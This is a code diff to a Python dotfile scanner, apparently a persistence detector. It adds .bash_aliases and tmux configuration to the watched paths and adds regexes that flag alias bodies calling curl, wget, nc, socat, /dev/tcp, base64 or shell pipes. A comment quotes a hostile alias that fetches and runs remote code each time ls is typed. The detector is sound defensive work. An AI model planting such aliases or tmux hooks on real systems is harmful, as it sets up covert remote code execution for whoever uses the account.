@@ -61,6 +61,10 @@ _EXACT = {
     ".zprofile": "shell_rc", ".zshenv": "shell_rc", ".zlogin": "shell_rc",
     ".zlogout": "shell_rc", ".kshrc": "shell_rc", ".cshrc": "shell_rc", ".tcshrc": "shell_rc",
     ".login": "shell_rc", ".logout": "shell_rc", ".mkshrc": "shell_rc",
+    # sourced by Debian's and Ubuntu's default .bashrc
+    ".bash_aliases": "shell_rc",
+    # tmux runs run-shell/if-shell lines whenever a server starts
+    ".tmux.conf": "tmux_rc", ".config/tmux/tmux.conf": "tmux_rc",
     ".config/fish/config.fish": "shell_rc",
     ".ssh/authorized_keys": "ssh", ".ssh/authorized_keys2": "ssh", ".ssh/rc": "ssh",
     ".ssh/environment": "ssh",
@@ -315,11 +319,25 @@ def _hidden_path(word: str) -> bool:
         ("/" in word and any(c.startswith(".") and c not in (".", "..") for c in word.split("/")))
 
 
+# An alias body that does more than run a command with options: fetches, talks to the
+# network, pipes into a shell, starts something in the background, decodes a payload.
+_ALIAS = re.compile(r"""^alias\s+[\w.-]+=(['"]?)(.*)\1\s*$""")
+_ALIAS_DOES_MORE = re.compile(
+    r"\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|&\s*(?:\)|;|$)|/dev/(?:tcp|udp)/|\$\(|`|"
+    r"\b(?:curl|wget|nc|ncat|netcat|socat|telnet|ssh|scp|base64|xxd|openssl|nohup|setsid)\b"
+    r"|\b(?:python\d?(?:\.\d+)?|perl|ruby|node|php)\s+-[ce]\b")
+# tmux lines that run a program when the configuration is loaded.
+_TMUX_RUNS = re.compile(r"(?m)^\s*(?:run-shell|run|if-shell|if|set-hook\s.*\b(?:run-shell|run)\b)\b")
+
+
 def _rc_runs_code(text: str) -> bool:
     for raw in text.splitlines():
         line = raw.strip()
         if not line:
             continue
+        m = _ALIAS.match(line)
+        if m and _ALIAS_DOES_MORE.search(m.group(2)):
+            return True  # alias ls='(curl -s URL | sh &); ls': runs when ls is typed
         shadow = definition_persists(line)
         if shadow is not None:
             if shadow:
@@ -358,6 +376,8 @@ def runs_code(cls: str, text: str | None) -> bool:
         return _pth_runs_code(text)
     if cls == "editor_rc":
         return _EDITOR_RUNS.search(text) is not None
+    if cls == "tmux_rc":
+        return _TMUX_RUNS.search(text) is not None
     if cls == "cron":
         return any(line.strip() and not line.lstrip().startswith("#")
                    and not re.match(r"^\s*[A-Z_]+\s*=", line) for line in text.splitlines())
